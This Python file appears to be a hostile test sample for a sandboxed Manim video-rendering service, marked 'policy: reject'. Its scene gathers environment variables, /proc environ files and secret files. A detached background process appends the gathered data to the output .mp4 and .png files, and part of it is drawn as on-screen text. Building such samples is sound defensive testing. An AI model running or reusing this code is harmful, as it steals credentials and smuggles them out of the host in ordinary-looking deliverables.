# category: env
# attack: collect env + /proc + host secret files and smuggle them into the deliverable: a background process appends them to out/video.mp4 and the media video, and a Text shows them
# expect: any
# policy: reject
import os
import subprocess
import sys

from manim import *

SECRET_FILES = HOSTILE_SECRET_FILES

APPENDER = r"""
import os, sys, time
blob = sys.argv[1].encode()
end = time.time() + 60
while time.time() < end:
    for root in ("/job/out", "/job/media"):
        for dirpath, _, names in os.walk(root):
            for name in names:
                if name.endswith((".mp4", ".png")):
                    try:
                        with open(os.path.join(dirpath, name), "ab") as f:
                            f.write(blob)
                    except OSError:
                        pass
    time.sleep(0.01)
"""


class SecretIntoVideo(Scene):
    def construct(self):
        loot = [f"{k}={v}" for k, v in os.environ.items()]
        for path in SECRET_FILES + ["/proc/self/environ", "/proc/1/environ"]:
            try:
                with open(path, errors="replace") as f:
                    loot.append(f.read())
            except OSError:
                pass
        blob = "LOOT:" + "|".join(loot)
        subprocess.Popen([sys.executable, "-c", APPENDER, blob, HOSTILE_MARKER], start_new_session=True)
        self.add(Text(blob[:60], font_size=10))
        self.play(FadeIn(Square()), run_time=0.5)
